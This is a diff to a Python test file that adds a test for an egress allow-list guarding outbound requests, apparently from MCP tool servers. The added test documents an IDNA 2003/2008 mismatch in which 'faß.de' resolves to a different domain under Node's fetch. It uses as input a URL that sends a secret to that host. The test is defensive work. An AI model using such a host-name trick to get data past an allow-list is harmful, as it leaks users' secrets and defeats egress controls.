@@ -102,3 +102,15 @@ def test_an_allow_list_entry_written_in_unicode_matches_its_host() -> None:
     assert host_allowed(egress_host("https://bücher.example/"), ["bücher.example"])
     assert host_allowed(egress_host("https://a.bücher.example/"), ["*.BÜCHER.example"])
     assert not host_allowed(egress_host("https://bucher.example/"), ["bücher.example"])
+
+
+async def test_attack_a_name_two_idna_versions_read_apart_is_judged_by_both(
+        tmp_path: Path) -> None:
+    # `faß.de` is fass.de to IDNA 2003 (Python) and xn--fa-hia.de, another domain, to IDNA 2008
+    # (Node's fetch, browsers): with fass.de allowed, a Node MCP server reached the other one
+    text = await posted(tmp_path, {"url": f"https://faß.de/c?d={SECRET}"},
+                        egress_allow=["fass.de"])
+    assert "refused to connect to xn--fa-hia.de" in text and sent == [], text
+    # must not fire: an entry written with the ß allows the name under both readings
+    assert await posted(tmp_path, {"url": "https://faß.de/c"}, egress_allow=["faß.de"]) == \
+        "posted"
